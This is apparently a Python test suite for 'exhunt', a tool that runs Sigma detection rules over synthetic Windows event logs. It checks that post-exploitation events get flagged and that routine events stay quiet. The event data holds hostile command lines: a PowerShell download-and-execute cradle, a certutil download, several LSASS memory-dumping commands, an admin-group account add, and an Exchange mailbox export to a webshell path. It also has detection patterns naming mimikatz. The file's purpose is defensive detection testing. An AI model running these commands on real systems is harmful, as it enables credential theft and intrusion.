"""exhunt's Sigma rules over EVTX written with the published field layouts, and --sigma."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from exhunt.checks.base import HuntContext
from exhunt.checks.sigma import SigmaEvents, event_row, load_sigma
from exhunt.cli import app
from exhunt.hunt.engine import hunt
from exhunt.hunt.files import FileStageSettings
from exhunt.lab import event_layouts as ev
from exhunt.lab.evtx_writer import EventSpec, write_evtx
from exhunt.model import Finding, LogRecord, RecordKind, Severity, Verdict

T = datetime(2021, 3, 4, 1, 0, tzinfo=UTC)
SYS32 = "C:\\Windows\\System32\\"
W3WP = SYS32 + "inetsrv\\w3wp.exe"


def hunt_events(tmp_path: Path, logs: dict[str, list[EventSpec]],
                sigma: tuple[str, ...] = ()) -> list[Finding]:
    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
    folder.mkdir(parents=True, exist_ok=True)
    for name, events in logs.items():
        write_evtx(folder / name, events)
    report = hunt(str(tmp_path / "copy"), files=FileStageSettings(sigma_dirs=sigma))
    return report.findings


def checks(findings: list[Finding]) -> dict[str, Finding]:
    return {f.check: f for f in findings}


# Each case: one event that must be flagged (check id, least severity), following its layout.
FLAGGED = [
    ("Sysmon.evtx", ev.sysmon_process_access(T, "C:\\Users\\adm\\Desktop\\mimikatz.exe",
                                             SYS32 + "lsass.exe", "0x1010"),
     "postexploit.lsass-access", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_process_access(T, SYS32 + "rundll32.exe", SYS32 + "lsass.exe",
                                             "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                                             "C:\\Windows\\System32\\comsvcs.dll+2f2a1"),
     "postexploit.lsass-access", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "taskmgr.exe",
                                          "C:\\Users\\adm\\AppData\\Local\\Temp\\lsass.DMP"),
     "postexploit.lsass-dump-file", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_file_create(T, "C:\\Users\\Public\\Outflank-Dumpert.exe",
                                          "C:\\Windows\\Temp\\dumpert.dmp"),
     "postexploit.lsass-dump-file", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_file_create(T, "C:\\tools\\procdump64.exe",
                                          "C:\\tools\\lsass.exe_210304_010000.dmp"),
     "postexploit.lsass-dump-file", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "rdrleakdiag.exe",
                                          "C:\\Windows\\Temp\\minidump_652.dmp"),
     "postexploit.lsass-dump-file", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_file_create(T, "C:\\Users\\Public\\svc.exe",
                                          "C:\\Users\\Public\\debug.dmp"),
     "postexploit.lsass-dump-file", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "rdrleakdiag.exe",
                                      "rdrleakdiag.exe /p 652 /o C:\\Windows\\Temp /fullmemdmp "
                                      "/wait 1", SYS32 + "cmd.exe"),
     "postexploit.lsass-dump-tool", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_process(T, "C:\\Users\\Public\\PPLdump.exe",
                                      "PPLdump.exe lsass.exe lsass.dmp", SYS32 + "cmd.exe"),
     "postexploit.lsass-dump-tool", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "lsass.exe", SYS32 + "lsass.exe",
                                      SYS32 + "lsass.exe"),
     "postexploit.lsass-dump-tool", Severity.HIGH),
    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "notepad.exe", "notepad.exe", W3WP),
     "postexploit.web-spawned-process", Severity.HIGH),
    ("Security.evtx", ev.security_process(T, SYS32 + "cmd.exe", "cmd /c whoami", W3WP),
     "postexploit.web-spawned-process", Severity.HIGH),
    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
        T, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
     "postexploit.download-cradle", Severity.MEDIUM),
    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.pipeline_module(
        T, "Invoke-WebRequest", 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n'
        'ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://203.0.113.9/x"'),
     "postexploit.download-cradle", Severity.MEDIUM),
    ("Windows PowerShell.evtx", ev.pipeline_classic(
        T, "Start-BitsTransfer", 'CommandInvocation(Start-BitsTransfer): "Start-BitsTransfer"'),
     "postexploit.download-cradle", Severity.MEDIUM),
    ("Sysmon.evtx", ev.sysmon_process(T, SYS32 + "certutil.exe",
                                      "certutil -urlcache -split -f http://203.0.113.9/x.exe x",
                                      SYS32 + "cmd.exe"),
     "postexploit.download-cradle", Severity.MEDIUM),
    ("Microsoft-Windows-TaskScheduler%4Operational.evtx", ev.task_process(
        T, "\\Updater", "C:\\Windows\\Temp\\upd.exe"), "postexploit.task-odd-path",
     Severity.MEDIUM),
    ("System.evtx", ev.service_installed(T, "svc1", "%COMSPEC% /C echo x > C:\\Windows\\Temp\\o"),
     "postexploit.service-odd-path", Severity.HIGH),
    ("Security.evtx", ev.security_process(T, SYS32 + "net.exe",
                                          "net localgroup administrators eve /add",
                                          SYS32 + "cmd.exe"),
     "postexploit.net-user-add", Severity.MEDIUM),
    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
        T, "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot"
           "\\aspnet_client\\x.aspx"), "postexploit.exchange-export-shell", Severity.HIGH),
]


@pytest.mark.parametrize(("log", "event", "check", "least"), FLAGGED,
                         ids=[f"{c[2]}-{i}" for i, c in enumerate(FLAGGED)])
def test_each_rule_flags_its_event(tmp_path: Path, log: str, event: EventSpec, check: str,
                                   least: Severity) -> None:
    found = checks(hunt_events(tmp_path, {log: [event]}))
    assert check in found, sorted(found)
    assert found[check].severity >= least


QUIET = [
    ("Sysmon.evtx", ev.sysmon_process_access(T, SYS32 + "csrss.exe", SYS32 + "lsass.exe",
                                             "0x1fffff")),
    ("Sysmon.evtx", ev.sysmon_process_access(T, "C:\\tools\\monitor.exe", SYS32 + "lsass.exe",
                                             "0x1000")),  # query-limited: no memory read
    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "svchost.exe",
                                          "C:\\Windows\\Temp\\report.txt")),
    ("Sysmon.evtx", ev.sysmon_file_create(T, SYS32 + "WerFault.exe", "C:\\ProgramData\\"
                                          "Microsoft\\Windows\\WER\\Temp\\w3wp.exe.mdmp")),
    ("Sysmon.evtx", ev.sysmon_process(
        T, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig",
        W3WP)),
    ("Security.evtx", ev.security_process(T, SYS32 + "conhost.exe", "conhost.exe 0xffffffff",
                                          W3WP)),
    ("Microsoft-Windows-PowerShell%4Operational.evtx", ev.script_block(
        T, "Get-Mailbox -ResultSize Unlimited | Select-Object Name")),
    ("Microsoft-Windows-TaskScheduler%4Operational.evtx", ev.task_process(
        T, "\\Microsoft\\Windows\\Defrag", SYS32 + "defrag.exe")),
    ("System.evtx", ev.service_installed(T, "vmtools", "\"C:\\Program Files\\VMware\\"
                                         "VMware Tools\\vmtoolsd.exe\"")),
]


@pytest.mark.parametrize(("log", "event"), QUIET)
def test_everyday_events_stay_quiet(tmp_path: Path, log: str, event: EventSpec) -> None:
    found = hunt_events(tmp_path, {log: [event]})
    assert not [f for f in found if f.severity > Severity.INFO], found


def test_lsass_theft_alone_is_high_host_activity_not_an_exchange_stage(tmp_path: Path) -> None:
    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
    folder.mkdir(parents=True)
    write_evtx(folder / "Sysmon.evtx", [ev.sysmon_process_access(
        T, "C:\\Users\\adm\\Desktop\\x.exe", SYS32 + "lsass.exe", "0x1410")])
    report = hunt(str(tmp_path / "copy"))
    assert report.verdict is Verdict.CLEAN
    assert [f.severity for f in report.host_activity] == [Severity.HIGH]


def test_context_rules_rise_with_a_high_finding(tmp_path: Path) -> None:
    created = ev.account_created(T, "support01", "S-1-5-21-1-2-3-1107")
    quiet = checks(hunt_events(tmp_path / "a", {"Security.evtx": [created]}))
    assert quiet["postexploit.account-created"].severity is Severity.INFO
    loud = checks(hunt_events(tmp_path / "b", {"Security.evtx": [
        created, ev.security_process(T + timedelta(minutes=5), SYS32 + "cmd.exe", "cmd /c whoami",
                                     W3WP)]}))
    assert loud["postexploit.account-created"].severity is Severity.HIGH
    # An ordinary member added to Administrators and a task: context alone, high beside an
    # LSASS dump file the same hunt found (the rise reads the whole hunt, not one log).
    admin = ev.member_added(T, "S-1-5-21-1-2-3-1107", "CN=helpdesk2,CN=Users,DC=corp")
    task = ev.task_created(T, "\\Backup", "C:\\Program Files\\Backup\\agent.exe")
    alone = checks(hunt_events(tmp_path / "c", {"Security.evtx": [admin, task]}))
    assert {alone[c].severity for c in ("postexploit.new-admin", "postexploit.scheduled-task")} \
        == {Severity.INFO}
    owned = checks(hunt_events(tmp_path / "d", {"Security.evtx": [admin, task], "Sysmon.evtx": [
        ev.sysmon_file_create(T + timedelta(hours=1), SYS32 + "taskmgr.exe",
                              "C:\\Windows\\Temp\\lsass.DMP")]}))
    for check in ("postexploit.new-admin", "postexploit.scheduled-task"):
        assert owned[check].severity is Severity.HIGH, check
        assert "raised to high" in owned[check].evidence


def test_user_rules_from_a_folder_and_broken_ones_named(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "whoami.yml").write_text("""title: Whoami run
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\\\\whoami.exe'}
  condition: sel
level: low
""")
    (rules / "linux.yml").write_text("""title: Linux thing
logsource: {product: linux, category: process_creation}
detection: {sel: {Image: /bin/sh}, condition: sel}
""")
    (rules / "broken.yml").write_text("title: [unclosed\n")
    loaded = load_sigma((str(rules),), builtin=False)
    assert [r.name for r in loaded.rules] == ["sigma.whoami"]
    problems = " ".join(p.artifact + " " + p.message for p in loaded.problems)
    assert "broken.yml" in problems and "1 Sigma rules skipped" in problems
    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
    folder.mkdir(parents=True)
    write_evtx(folder / "Sysmon.evtx", [ev.sysmon_process(T, SYS32 + "whoami.exe", "whoami",
                                                          SYS32 + "cmd.exe")])
    result = CliRunner().invoke(app, ["hunt", str(tmp_path / "copy"), "--sigma", str(rules),
                                      "--format", "json"])
    assert '"check": "sigma.whoami"' in result.output and "broken.yml" in result.output


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(st.text(min_size=1, max_size=20), st.text(max_size=200), max_size=12),
       st.sampled_from(["Security", "Microsoft-Windows-Sysmon/Operational", "System", "x"]),
       st.sampled_from(["1", "10", "11", "4104", "4688", "4720", "4732", "7045", "junk"]),
       st.lists(st.none() | st.datetimes(timezones=st.just(UTC)), min_size=1, max_size=3))
def test_hostile_events_never_break_the_rules(fields: dict[str, str], channel: str,
                                              event_id: str, times: list[datetime | None]
                                              ) -> None:
    """Any values, any times (the correlations count by time), repeated: findings or none,
    never an error."""
    data = {f"Data.{k}": v for k, v in fields.items()}
    check = SigmaEvents(HuntContext())
    for when in times:
        record = LogRecord(RecordKind.EVENT, "x.evtx", 1, when,
                           {**data, "Channel": channel, "EventID": event_id})
        assert list(check.feed(record)) == []
    for finding in check.finalize():
        assert finding.check.startswith("postexploit.")
    assert event_row(record)["exhunt_category"] is not None


def test_prefilter_literals_come_from_what_a_match_must_hold(tmp_path: Path) -> None:
    from sigma.collection import SigmaCollection

    from exhunt.checks.sigma_rules import required_literals

    def literals(detection: str) -> set[str] | None:
        rule = SigmaCollection.from_yaml("title: t\nlogsource: {product: windows, category: "
                                         "process_creation}\ndetection:\n" + detection).rules[0]
        return required_literals(rule)

    assert literals("  a: {Image|endswith: '\\\\whoami.exe'}\n  b: {User: x}\n"
                    "  condition: a and not b\n") == {"\\whoami.exe"}
    assert literals("  a: {CommandLine|contains: ['mimikatz', 'sekurlsa']}\n"
                    "  b: {Image|endswith: '\\\\procdump.exe'}\n  condition: a or b\n") == {
        "mimikatz", "sekurlsa", "\\procdump.exe"}
    # Nothing an event must hold: the rule sees every event of its channels.
    assert literals("  a: {CommandLine|re: 'x+y'}\n  condition: a\n") is None
    assert literals("  sel_a: {Image: abc.exe}\n  sel_b: {Image: def.exe}\n"
                    "  condition: 1 of sel_*\n") is None
    assert literals("  a: {Image: abc.exe}\n  condition: not a\n") is None


def test_keyword_rules_search_the_whole_event(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "export.yml").write_text("""title: Mailbox exported to a page
logsource: {product: windows, service: msexchange-management}
detection:
  keywords:
    '|all': ['New-MailboxExportRequest', '.aspx']
  condition: keywords
level: critical
""")
    folder = tmp_path / "copy/C/Windows/System32/winevt/Logs"
    folder.mkdir(parents=True)
    write_evtx(folder / "MSExchange Management.evtx", [
        EventSpec("MSExchange Management", "MSExchange CmdletLogs", 1, 4, T, "ex01", [
            "New-MailboxExportRequest", '-Mailbox "ceo" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\'
            'wwwroot\\aspnet_client\\x.aspx"', "CORP/Users/admin", "S-1-5-21"]),
        EventSpec("MSExchange Management", "MSExchange CmdletLogs", 1, 4, T, "ex01", [
            "New-MailboxExportRequest", '-Mailbox "ceo" -FilePath "\\\\fs\\pst\\ceo.pst"',
            "CORP/Users/admin", "S-1-5-21"])])
    report = hunt(str(tmp_path / "copy"), files=FileStageSettings(sigma_dirs=(str(rules),)))
    found = [f for f in report.findings if f.check == "sigma.export"]
    assert len(found) == 1 and "x.aspx" in found[0].evidence
    assert found[0].severity is Severity.CRITICAL


CORRELATIONS = """title: Discovery command
name: discovery_cmd
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: ['\\\\whoami.exe', '\\\\ipconfig.exe']}
  condition: sel
---
title: Net user
name: net_user
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\\\\net.exe'}
  condition: sel
---
title: Burst of discovery from one parent
name: sigma.discovery-burst
correlation:
  type: event_count
  rules: [discovery_cmd]
  group-by: [ParentImage]
  timespan: 10m
  condition: {gte: 3}
level: high
---
title: Discovery then net user from one parent
name: sigma.discovery-then-net
correlation:
  type: temporal
  rules: [discovery_cmd, net_user]
  group-by: [ParentImage]
  timespan: 5m
level: medium
"""


def test_correlation_rules_count_and_order_events(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "discovery.yml").write_text(CORRELATIONS)
    # A rule of another file that names a rule nobody wrote: named, never silently skipped.
    (rules / "orphan.yml").write_text("""title: Orphan
name: sigma.orphan
correlation: {type: event_count, rules: [nowhere], group-by: [Image], timespan: 1m,
              condition: {gte: 2}}
level: high
""")
    loaded = load_sigma((str(rules),), builtin=False)
    assert sorted(r.name for r in loaded.rules) == ["sigma.discovery-burst",
                                                    "sigma.discovery-then-net"]
    problems = " ".join(p.artifact + " " + p.message for p in loaded.problems)
    assert "orphan.yml" in problems and "'sigma.orphan' not evaluated" in problems
    cmd = SYS32 + "cmd.exe"
    burst = [ev.sysmon_process(T + timedelta(minutes=i), SYS32 + name, name, W3WP)
             for i, name in enumerate(["whoami.exe", "ipconfig.exe", "whoami.exe"])]
    found = checks(hunt_events(tmp_path / "a", {"Sysmon.evtx": [
        *burst, ev.sysmon_process(T + timedelta(minutes=4), SYS32 + "net.exe", "net user", W3WP),
        # Another parent, too few and in another order: neither correlation.
        ev.sysmon_process(T, SYS32 + "net.exe", "net user", cmd),
        ev.sysmon_process(T + timedelta(minutes=1), SYS32 + "whoami.exe", "whoami", cmd)]},
        sigma=(str(rules),)))
    count = found["sigma.discovery-burst"]
    assert count.severity is Severity.HIGH and "event_count 3" in count.evidence
    assert "w3wp.exe" in count.evidence and "cmd.exe" not in count.evidence
    assert found["sigma.discovery-then-net"].severity is Severity.MEDIUM
    # Spread over an hour, the burst is no burst.
    slow = [ev.sysmon_process(T + timedelta(minutes=30 * i), SYS32 + "whoami.exe", "whoami",
                              W3WP) for i in range(3)]
    quiet = checks(hunt_events(tmp_path / "b", {"Sysmon.evtx": slow}, sigma=(str(rules),)))
    assert "sigma.discovery-burst" not in quiet


def test_exports_without_field_names_still_meet_the_command_rules(tmp_path: Path) -> None:
    """Get-WinEvent | ConvertTo-Json keeps the values (Properties) but not their names: the
    rules that search command lines and script blocks read the values joined."""
    import json

    def exported(log: str, provider: str, event_id: int, values: list[str]) -> dict[str, object]:
        return {"Id": event_id, "ProviderName": provider, "LogName": log, "RecordId": 7,
                "MachineName": "EX01", "TimeCreated": "2021-03-04T01:00:00Z",
                "Properties": [{"Value": v} for v in values], "Message": "rendered"}

    events = [
        exported("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, [
            "-", "2021-03-04 01:00:00.000", "{x}", "4242", SYS32 + "rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\m.dmp full"]),
        exported("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
                 4104, ["1", "1", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
                        "a1b2", ""]),
        exported("Security", "Microsoft-Windows-Security-Auditing", 4698, [
            "S-1-5-18", "EX01$", "CORP", "0x3e7", "\\Updater",
            "<Task><Exec><Command>C:\\Windows\\Temp\\u.exe</Command></Exec></Task>"]),
    ]
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "exported-events.json").write_text(json.dumps(events))
    found = checks(hunt(str(copy)).findings)
    assert found["postexploit.command"].title == "LSASS memory dumped with comsvcs.dll MiniDump"
    assert "postexploit.download-cradle" in found
    assert found["postexploit.scheduled-task"].severity is Severity.MEDIUM


def test_shipped_correlation_new_account_made_admin(tmp_path: Path) -> None:
    """exhunt's own correlation rule: 4720 then 4732 for the same SID within the hour."""
    sid = "S-1-5-21-1-2-3-1107"
    made = checks(hunt_events(tmp_path / "a", {"Security.evtx": [
        ev.account_created(T, "support01", sid),
        ev.member_added(T + timedelta(minutes=3), sid)]}))
    found = made["postexploit.new-account-made-admin"]
    assert found.severity is Severity.INFO and found.context  # context until compromise shown
    assert "temporal_ordered" in found.evidence and sid.lower() in found.evidence
    # Its helper rules give no findings; the events keep their own checks.
    assert not [c for c in made if c.startswith("exhunt.helper")]
    assert {"postexploit.account-created", "postexploit.new-admin"} <= set(made)
    for events in ([ev.account_created(T, "support01", sid),  # another account made admin
                    ev.member_added(T + timedelta(minutes=3), "S-1-5-21-1-2-3-1108")],
                   [ev.member_added(T, sid),  # the wrong order, then too late
                    ev.account_created(T + timedelta(minutes=1), "support01", sid)],
                   [ev.account_created(T, "support01", sid),
                    ev.member_added(T + timedelta(hours=3), sid)]):
        other = checks(hunt_events(tmp_path / str(len(events)) / str(id(events)),
                                   {"Security.evtx": events}))
        assert "postexploit.new-account-made-admin" not in other


def test_correlations_keep_only_the_events_they_count() -> None:
    """The prefilter keeps what a correlation's rules must hold (4720, 4732), not every
    Security event (a Security log is mostly logons)."""
    rule = next(r for r in load_sigma().rules if r.name == "postexploit.new-account-made-admin")
    assert rule.literals == ("4720", "4732")
    assert "security" not in load_sigma().literals
